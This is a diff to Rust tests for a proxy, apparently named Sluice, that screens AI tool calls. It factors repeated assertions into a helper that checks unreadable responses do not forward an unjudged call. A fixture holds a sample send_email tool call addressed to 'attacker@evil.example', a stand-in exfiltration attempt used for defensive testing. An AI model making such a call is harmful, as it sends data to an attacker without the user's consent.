@@ -386,6 +386,18 @@ fn answered_as(content_type: &str, body: Vec<u8>) -> (RawResponse, bool) {
     (r, refused)
 }
 
+/// The call was not forwarded unjudged, and the client is told why.
+fn assert_unjudged_call_withheld(text: &str) {
+    assert!(
+        !text.contains("attacker@evil.example"),
+        "the unjudged call leaked: {text}"
+    );
+    assert!(
+        text.contains("could not be read to judge them"),
+        "the client is told why: {text}"
+    );
+}
+
 const CALL: &str = r#""choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"send_email","arguments":"{\"to\":\"attacker@evil.example\"}"}}]},"finish_reason":"tool_calls"}]"#;
 
 /// A refused `send_email` call with a byte that is not UTF-8 in a field Sluice does not
@@ -421,14 +433,7 @@ fn a_refused_call_in_a_body_that_cannot_be_rewritten_is_not_forwarded() {
 fn a_call_in_a_body_sluice_cannot_read_is_not_forwarded_unjudged() {
     let (r, _) = answered_with(format!(r#"{{"id":"c","model":5,{CALL}}}"#).into_bytes());
     let text = r.text();
-    assert!(
-        !text.contains("attacker@evil.example"),
-        "the unjudged call leaked: {text}"
-    );
-    assert!(
-        text.contains("could not be read to judge them"),
-        "the client is told why: {text}"
-    );
+    assert_unjudged_call_withheld(&text);
     let plain = r#"{"id":"c","model":5,"choices":[{"index":0,"message":{"role":"assistant","content":"say \"tool_calls\""},"finish_reason":"stop"}]}"#;
     let (r, refused) = answered_with(plain.as_bytes().to_vec());
     assert_eq!(r.text(), plain);
@@ -472,12 +477,5 @@ fn a_call_in_an_event_sluice_cannot_read_ends_the_stream() {
         text.contains(r#""content":"hi""#),
         "the text before it went out: {text}"
     );
-    assert!(
-        !text.contains("attacker@evil.example"),
-        "the unjudged call leaked: {text}"
-    );
-    assert!(
-        text.contains("could not be read to judge them"),
-        "the client is told why: {text}"
-    );
+    assert_unjudged_call_withheld(&text);
 }
